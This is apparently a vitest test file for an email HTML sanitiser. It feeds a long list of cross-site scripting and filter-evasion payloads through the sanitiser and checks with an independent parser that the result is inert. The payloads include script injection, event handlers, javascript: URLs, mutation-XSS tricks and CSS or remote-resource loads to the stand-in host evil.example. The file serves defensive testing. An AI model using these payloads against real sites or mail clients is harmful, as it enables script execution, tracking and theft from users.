import { isTag } from 'domhandler'
import fc from 'fast-check'
import { DomUtils, parseDocument } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { revealImages, sanitiseHtml } from './html.ts'

/** Known ways to run something, leave the frame, or ask the network, from filter-evasion lists and published bypasses. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror\n=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=`javascript:alert(1)`>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">',
  '<picture><source srcset="https://evil.example/a"><img src="https://evil.example/b"></picture>',
  '<image src="https://evil.example/x" href="https://evil.example/x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<frameset onload=alert(1)><frame src="https://evil.example"></frameset>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/relative/of/our/own/site">x</a>',
  '<a href="#anchor" ping="https://evil.example/ping">x</a>',
  '<a target=_self href="https://ok.example" onclick=alert(1)>x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=dns-prefetch href="//leak.evil.example">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background:u\\72l(https://evil.example/x)">x</div>',
  '<div style="background:/**/url(/**/https://evil.example/x)">x</div>',
  '<div style="background-image:image-set(\'https://evil.example/x\' 1x)">x</div>',
  '<div style="list-style:url(https://evil.example/x)">x</div>',
  '<div style="content:url(https://evil.example/x)">x</div>',
  '<div style="cursor:url(https://evil.example/x),auto">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#a)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  "<div style=\"font-family:'a\\';background:url(https://evil.example)'\">x</div>",
  '<div style="color:red;}@import \'https://evil.example\';{">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999;background:white">cover</div>',
  '<div style="margin-top:-2000px">cover</div>',
  '<div style="transform:translate(-100px)">cover</div>',
  '<table background="https://evil.example/x"><td background="//evil.example/y">x</table>',
  '<body background="https://evil.example/x" onload=alert(1)>x</body>',
  '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=image src="https://evil.example/x" onfocus=alert(1) autofocus>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<video poster="https://evil.example/x" src="https://evil.example/y" onloadstart=alert(1)></video>',
  '<audio src="https://evil.example/x" autoplay></audio>',
  '<video><source onerror=alert(1)><track src="https://evil.example/t"></video>',
  '<bgsound src="https://evil.example/x">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id=location name=cookie>clobber</p>',
  '<img name=getElementById src=x>',
  '<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>',
  '<x is="script" onclick=alert(1)>x</x>',
  '<b/oncopy=alert(1)//>x</b>',
  '<p/onmouseover=\u000calert(1)>x</p>',
  '<a href="https://ok.example" style="position:absolute;top:0;left:0;width:100%;height:100%">x</a>',
  '<img data-blocked-src="javascript:alert(1)" data-cid="x&quot; onerror=alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<portal src="https://evil.example"></portal><fencedframe src="https://evil.example"></fencedframe>',
  '<div><div style="animation-name:x" onanimationstart=alert(1)>x</div></div>',
  '<sc\0ript>alert(1)</sc\0ript>',
  '<a href="java\0script:alert(1)">x</a>',
]

const ELEMENTS = new Set(
  'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
)

/** An independent judge: parses the result again and looks at everything in it. */
function expectInert(html: string): void {
  for (const node of DomUtils.filter(() => true, parseDocument(html).children)) {
    if (!isTag(node)) {
      expect(node.type).toBe('text')
      continue
    }
    expect(ELEMENTS).toContain(node.name)
    for (const [name, value] of Object.entries(node.attribs)) {
      expect(name, 'handlers and addressable names').not.toMatch(
        /^(?:on|id$|name$|class$|background$|srcset$|form|action|ping)/i,
      )
      if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|gif|jpe?g|webp);base64,/i)
      if (name === 'href') {
        expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:)/i)
        expect(node.attribs).toMatchObject({ target: '_blank', rel: 'noopener noreferrer nofollow' })
      }
      if (name === 'style')
        expect(value).not.toMatch(/url|expression|@|\\|\/\*|position|z-index|transform|animation|inset|-\d/i)
    }
  }
}

describe('mail HTML', () => {
  it.each(ATTACKS)('is inert: %s', attack => {
    const { html } = sanitiseHtml(`<p>before</p>${attack}<p>after</p>`)
    expectInert(html)
    expect(html).toContain('<p>before</p>')
    // What comes out does not change its meaning when it is read and cleaned once more.
    expectInert(sanitiseHtml(html).html)
    expectInert(sanitiseHtml(`<svg><style>${attack}</style></svg><table><div>${attack}`).html)
  })

  it('is inert for any mixture of attacks', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.string({ maxLength: 20 }),
      fc.constantFrom('<', '>', '"', "'", '</', '<!--', '-->'),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), fc.nat(200), (pieces, cut) => {
        expectInert(sanitiseHtml(pieces.join('').slice(cut)).html)
      }),
      { numRuns: 500 },
    )
  })

  it('keeps what a letter looks like', () => {
    const letter =
      '<h1 style="color:#333;font-family:\'Segoe UI\', Arial">Račun</h1><table width="600" cellpadding="4"><tr><td style="background-color: rgb(1, 2, 3); padding: 4px" bgcolor="#eee">1 &lt; 2</td></tr></table><ul><li>jedan</li></ul>'
    const { html, blockedImages } = sanitiseHtml(letter)
    expect(html).toBe(
      '<h1 style="color:#333;font-family:\'Segoe UI\', Arial">Račun</h1><table width="600" cellpadding="4"><tr><td style="background-color:rgb(1, 2, 3);padding:4px" bgcolor="#eee">1 &lt; 2</td></tr></table><ul><li>jedan</li></ul>',
    )
    expect(blockedImages).toBe(0)
  })

  it('opens links elsewhere and says nothing about us', () => {
    expect(sanitiseHtml('<a href="https://ok.example/?a=1&amp;b=2" target="_top" rel="opener">x</a>').html).toBe(
      '<a href="https://ok.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
    expect(sanitiseHtml('<a href="mailto:a@b.hr">x</a><a href="tel:+3851">y</a>').html).toContain('href="tel:+3851"')
  })

  it('blocks and counts remote images and backgrounds', () => {
    const { html, blockedImages } = sanitiseHtml(
      '<img src="https://t.example/p?a=1&amp;b=2" width="1"><img src="//t.example/q"><img srcset="https://t.example/r 2x"><td background="https://t.example/s">x</td><div style="background-image:url(\'https://t.example/u\')">y</div>',
    )
    expect(blockedImages).toBe(5)
    expect(html).toContain('data-blocked-src="https://t.example/p?a=1&amp;b=2"')
    expect(html).toContain('data-blocked-src="https://t.example/q"')
    expect(html).toContain('data-blocked-background="https://t.example/u"')
    expect(html).not.toMatch(/ (?:src|srcset|background)=/)
  })

  it('maps inline images to their files, and remote ones only when asked', () => {
    const { html } = sanitiseHtml(
      '<img src="cid:a%40b" alt="1"><img src="cid:gone"><img src="https://t.example/p?a=1&amp;b=2">',
    )
    const fileUrl = (id: string) => (id === 'a@b' ? '/files/1?x=1&y="2"' : null)
    const closed = revealImages(html, { fileUrl, remoteUrl: () => null })
    expect(closed).toContain('src="/files/1?x=1&amp;y=&quot;2&quot;"')
    expect(closed).toContain('data-cid="gone"')
    expect(closed).toContain('data-blocked-src=')
    const open = revealImages(html, { fileUrl, remoteUrl: url => `/proxy?url=${encodeURIComponent(url)}` })
    expect(open).toContain('src="/proxy?url=https%3A%2F%2Ft.example%2Fp%3Fa%3D1%26b%3D2"')
  })

  it('cuts off nesting that a browser could not lay out', () => {
    const { html } = sanitiseHtml(`${'<div>'.repeat(5000)}deep`)
    expect(html.match(/<div>/g)!.length).toBeLessThanOrEqual(200)
    expect(html).toContain('deep')
  })
})
